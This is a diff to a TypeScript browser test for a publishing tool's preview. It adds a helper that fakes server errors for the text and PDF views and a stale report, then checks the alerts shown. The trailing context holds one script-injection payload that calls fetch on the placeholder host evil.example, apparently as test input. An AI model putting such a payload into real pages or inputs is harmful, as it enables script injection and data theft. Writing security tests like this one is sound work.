@@ -136,12 +136,45 @@ test('a saved file is on the page where the reader was; a fault keeps the last g
     expect(await page.evaluate('document.documentElement.dir')).toBe(language === 'en' ? 'ltr' : 'rtl');
   }
 
+  await seesWhatFails(page);
+
   const second = await spawnPublish(['-C', folder, 'preview', '--no-open']);
   expect(second.code).toBe(2);
   expect(second.stderr).toContain('A desk is already open on this publication, at http://127.0.0.1:');
   child.kill('SIGINT');
   expect(await once(child, 'exit')).toEqual([0, null]);
 });
+
+/** What the views of texts and PDFs say if the server refuses, and of a PDF that is made from an earlier text. */
+async function seesWhatFails(page: Page): Promise<void> {
+  const answers: Readonly<Record<string, readonly [status: number, body: string]>> = {
+    txt: [500, 'The text is broken.'],
+    pdf: [503, 'The desk is busy.'],
+  };
+  const early = JSON.stringify({ report: { findings: [] }, version: -1 });
+  let isEarly = false;
+  await page.setRequestInterception(true);
+  page.on('request', (request) => {
+    const { pathname } = new URL(request.url());
+    const [status = 200, body] = answers[pathname.split('.').at(-1) ?? ''] ?? [];
+    if (isEarly && pathname.startsWith('/preflight/')) void request.respond({ status: 200, body: early });
+    else if (body === undefined) void request.continue();
+    else void request.respond({ status, body });
+  });
+  for (const [view, said] of [
+    ['txt', 'The text is broken.'],
+    ['pdf', 'The desk is busy.'],
+  ] as const) {
+    await page.click(`button[data-value=${view}]`);
+    await page.waitForFunction(
+      `document.querySelector('.stage[role=alert]')?.textContent.includes(${JSON.stringify(said)})`,
+    );
+  }
+  expect(await page.$('.about .stale')).toBeNull();
+  isEarly = true;
+  await page.click('.stage[role=alert] button');
+  await page.waitForSelector('.about .stale + button');
+}
 
 const RUN = 'fetch("https://evil.example/run"),alert("run")';
 
